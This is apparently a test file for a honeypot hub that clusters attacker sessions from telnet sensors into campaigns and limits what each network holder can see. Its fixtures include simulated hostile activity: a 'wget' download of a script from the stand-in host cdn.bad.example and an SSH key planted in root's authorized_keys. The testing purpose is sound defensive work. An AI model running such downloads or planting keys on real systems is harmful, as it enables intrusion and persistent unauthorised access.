import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import fc from 'fast-check'
import { logger, uuidv7 } from '@skep/vocabulary'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { startHub, type Hub } from '../hub.ts'
import { Browser, person } from '../testing-people.ts'
import { member, testStore, type Member } from '../testing.ts'
import { campaignsOf, findCampaigns, type AnchorSet, type Campaign, type Known } from './campaigns.ts'
import { judgeAll } from './nightly.ts'

const now = Date.parse('2026-11-20T00:00:00Z')
const time = (days: number): string => new Date(now - days * 86_400_000).toISOString()
const set = (names: string, sources: number, days = 1): AnchorSet => ({
  anchors: names.split(' ').map((name) => ({
    type: name.startsWith('h') ? 'host' : name.startsWith('k') ? 'key' : 'file',
    value: name,
  })),
  sources,
  some: Array.from({ length: Math.min(3, sources) }, (_, i) => `${names}-${i}`),
  first_seen: time(days),
  last_seen: time(0.5),
})
const names = ({ anchors }: Campaign): string =>
  anchors
    .map(({ value }) => value)
    .sort()
    .join(' ')
const knownOf = (campaigns: readonly Campaign[]): Known[] =>
  campaigns.flatMap(({ id, anchors }) => anchors.map((anchor) => ({ ...anchor, campaign: id })))

describe('what belongs together', () => {
  test('things that came in one conversation from several addresses; one address is no campaign', () => {
    const found = campaignsOf([set('h1 f1', 5), set('f1 k1', 3), set('h2 f2', 4), set('h3 f3', 1)], [])
    expect(found.map(names)).toEqual(['f1 h1 k1', 'f2 h2'])
    expect(found.map(({ grade }) => grade)).toEqual(['A', 'A'])
    expect(campaignsOf([set('h1', 2)], [])[0]?.grade).toBe('B')
  })
  test('one conversation that mixes two large campaigns joins nothing, a rare program joins its host', () => {
    const found = campaignsOf([set('h1 f1', 900), set('h2 f2', 500), set('h1 h2', 1), set('f9 h1', 1)], [])
    expect(found.map(names)).toEqual(['f1 f9 h1', 'f2 h2'])
  })
  test('keeps its identity while one of its anchors lives, also when it grows, splits or rests', () => {
    const first = campaignsOf([set('h1 f1', 5, 20)], [])
    const grown = campaignsOf([set('f1 h7', 5), set('h8 f8', 2)], knownOf(first))
    expect(grown.map(({ id }) => id)).toContain(first[0]?.id)
    expect(
      grown
        .find(({ id }) => id === first[0]?.id)
        ?.anchors.map(({ value }) => value)
        .sort(),
    ).toEqual(['f1', 'h1', 'h7'])
    const resting = campaignsOf([], knownOf(grown))
    expect(resting.map(names).sort()).toEqual(grown.map(names).sort())
    const split = campaignsOf([set('h7', 9), set('f1', 2)], knownOf(grown))
    expect(new Set(split.map(({ id }) => id)).size).toBe(split.length)
    expect(split.find((one) => names(one).includes('h7'))?.id).toBe(first[0]?.id)
    expect(campaignsOf([], knownOf(grown), 0)).toEqual([])
  })
  test('the order of what is read changes nothing; no anchor is in two campaigns', () => {
    const word = fc.constantFrom('h1', 'h2', 'h3', 'f1', 'f2', 'f3', 'k1', 'k2')
    const sets = fc.array(
      fc.tuple(fc.uniqueArray(word, { minLength: 1, maxLength: 4 }), fc.integer({ min: 1, max: 20 })),
      { maxLength: 12 },
    )
    fc.assert(
      fc.property(sets, fc.infiniteStream(fc.nat(1000)), (drawn, order) => {
        const all = drawn.map(([list, sources]) => set(list.join(' '), sources))
        const mixed = all.map((one) => [order.next().value, one] as const).sort(([a], [b]) => a - b)
        const shape = (list: readonly AnchorSet[]) =>
          campaignsOf(list, [])
            .map((one) => `${one.id} ${one.name} ${one.grade} ${names(one)}`)
            .sort()
        expect(shape(mixed.map(([, one]) => one))).toEqual(shape(all))
        const members = campaignsOf(all, []).flatMap(({ anchors }) => anchors.map(({ value }) => value))
        expect(new Set(members).size).toBe(members.length)
      }),
    )
  })
})

describe('in a hub', () => {
  const data = mkdtempSync(join(tmpdir(), 'skep-campaigns-'))
  let hub: Hub
  let sensors: Member[]
  let operator: Browser
  let desk: Browser
  const log = logger('test', () => {})
  const key = `SHA256:${'k'.repeat(43)}`
  const file = 'a'.repeat(64)
  const attack = async (sensor: Member, source: string, things: readonly [string, object][], ago = 3_600_000) => {
    const boot = uuidv7()
    const session = uuidv7()
    // All within one hour of the clock.
    const at = Math.floor((Date.now() - ago) / 3_600_000) * 3_600_000 + (Date.now() % 1000)
    const event = (seq: number, kind: string, payload: object) => ({
      id: uuidv7(),
      sensor: sensor.name,
      boot,
      seq,
      time: new Date(at + seq).toISOString().replace('Z', '000Z'),
      session,
      service: 'telnet',
      transport: 'tcp',
      source: { ip: source, port: 40_000 + seq },
      target: { port: 23 },
      kind,
      data: payload,
    })
    const { status, body } = await sensor.deliver(
      boot,
      things.map(([kind, payload], i) => event(i, kind, payload)),
    )
    expect([status, body['rejected']]).toEqual([200, []])
  }
  const url = (text: string): [string, object] => ['payload.seen', { url: text, tool: 'wget' }]

  beforeAll(async () => {
    hub = await startHub({ data, ...(await testStore()), regular: false })
    await hub.ready
    sensors = await Promise.all(['a1', 'a2', 'b1'].map((name) => member(hub, name, name[0] === 'a' ? 'isp' : 'nren')))
    const chief = await hub.relational.people.addUser('op@hub.example', 'op', true)
    operator = new Browser(hub.url)
    operator.setCookie('skep', await hub.relational.people.signIn(chief.id, 'full', { agent: 'test', remote: '' }))
    desk = await person(hub, 'desk@holder.example', 'holder', 'admin')
    const claim = await hub.relational.claims.request({
      organisation: 'holder',
      resource: 'AS13335',
      method: 'operator',
      author: 'x',
      author_id: '',
    })
    await hub.relational.claims.settle(claim, 'proved', '', 365 * 86_400_000)
    const [a1, a2, b1] = sensors as [Member, Member, Member]
    await attack(a1, '1.1.1.7', [
      ['command.run', { line: 'wget http://cdn.bad.example/x.sh' }],
      url('http://cdn.bad.example/x.sh'),
      ['artifact.stored', { sha256: file, size: 900, name: '/tmp/x.sh' }],
      ['artifact.stored', { sha256: 'b'.repeat(64), size: 2, name: '/tmp/ok' }],
    ])
    // One connection carries the program, another plants the key.
    await attack(a2, '8.8.8.9', [['artifact.stored', { sha256: file, size: 900, name: '/tmp/y' }]])
    await attack(a2, '8.8.8.9', [
      ['key.planted', { key: 'ssh-rsa AAAA x', fingerprint: key, path: '/root/.ssh/authorized_keys' }],
    ])
    await attack(b1, '8.8.8.10', [
      ['key.planted', { key: 'ssh-rsa AAAA x', fingerprint: key, path: '/root/.ssh/authorized_keys' }],
      ['artifact.stored', { sha256: file, size: 900, name: '/tmp/y' }],
      ['artifact.stored', { sha256: 'b'.repeat(64), size: 2, name: '/tmp/ok' }],
    ])
    // What anybody uses, and what is nobody's, joins nothing.
    for (const [i, sensor] of [a1, a2, b1].entries())
      await attack(sensor, `9.9.9.${i}`, [
        url('https://pastebin.com/raw/one'),
        url('https://ipinfo.io/org'),
        url('http://127.0.0.1/x'),
        url('http://10.1.2.3/x'),
      ])
  }, 60_000)
  afterAll(async () => {
    await hub.stop()
    rmSync(data, { recursive: true, force: true })
  })

  test('found over three sensors; words and common hosts mark nothing; told the same again', async () => {
    expect(await findCampaigns({ ...hub, log })).toBe(2)
    const { body } = await operator.api('GET', 'campaigns')
    const rows = (body['rows'] as Record<string, string>[]).sort((a, b) =>
      (a['grade'] ?? '').localeCompare(b['grade'] ?? ''),
    )
    expect(rows).toMatchObject([
      { name: `key ${key.slice(0, 20)}… · cdn.bad.example`, grade: 'A', sources: 3, sensors: 3, files: 1, keys: 1 },
      { name: 'https://pastebin.com/raw/one', grade: 'B', sources: 3, hosts: 1 },
    ])
    const before = rows.map(({ campaign }) => campaign).sort()
    await findCampaigns({ ...hub, log }, Date.now() + 2000)
    const again = (await operator.api('GET', 'campaigns')).body['rows'] as Record<string, unknown>[]
    expect(again.map(({ campaign }) => campaign).sort()).toEqual(before)
  })

  test('its days, marks, sources and commands; of members only what is theirs', async () => {
    const list = (await operator.api('GET', 'campaigns?contains=cdn.bad')).body['rows'] as { campaign: string }[]
    const id = list[0]?.campaign ?? ''
    expect(list).toHaveLength(1)
    const one = await operator.api('GET', `campaigns/${id}`)
    expect(one.body).toMatchObject({ sources: 3, sessions: 4 })
    const days = one.body['days'] as { sources: number }[]
    expect(days.reduce((sum, { sources }) => sum + sources, 0)).toBe(3)
    const part = async (who: Browser, name: string) =>
      (await who.api('GET', `campaigns/${id}/${name}`)).body['rows'] as Record<string, unknown>[]
    expect((await part(operator, 'marks')).map(({ type, sources }) => [type, sources])).toEqual([
      ['file', 3],
      ['key', 2],
      ['host', 1],
    ])
    expect((await part(operator, 'sources')).map(({ source }) => source)).toEqual(['8.8.8.9', '1.1.1.7', '8.8.8.10'])
    expect(await part(operator, 'commands')).toMatchObject([{ line: 'wget http://cdn.bad.example/x.sh', sources: 1 }])
    // The holder of AS13335 sees its own address in it, and nobody else's.
    const mine = await desk.api('GET', 'campaigns')
    expect(mine.body['rows']).toMatchObject([{ campaign: id, sources: 1, sessions: 1 }])
    expect((await part(desk, 'sources')).map(({ source }) => source)).toEqual(['1.1.1.7'])
    expect((await part(desk, 'marks')).map(({ type }) => type).sort()).toEqual(['file', 'host'])
    const stranger = await person(hub, 's@other.example', 'other', 'admin')
    expect((await stranger.api('GET', 'campaigns')).body['rows']).toEqual([])
    expect((await stranger.api('GET', `campaigns/${id}`)).status).toBe(404)
  })

  test('is judged like everything that recurs', async () => {
    for (const ago of [2, 3, 4])
      await attack(sensors[2] as Member, '8.8.8.10', [url('http://cdn.bad.example/z')], ago * 864e5)
    await findCampaigns({ ...hub, log }, Date.now() + 4000)
    await judgeAll({ ...hub, log })
    const { body } = await operator.api('GET', 'verdicts?type=campaign')
    expect(body['rows']).not.toEqual([])
    const [{ entity, verdict } = { entity: '', verdict: '' }] = body['rows'] as { entity: string; verdict: string }[]
    expect((await operator.api('GET', `campaigns/${entity}`)).body).toMatchObject({ verdict })
  })
})
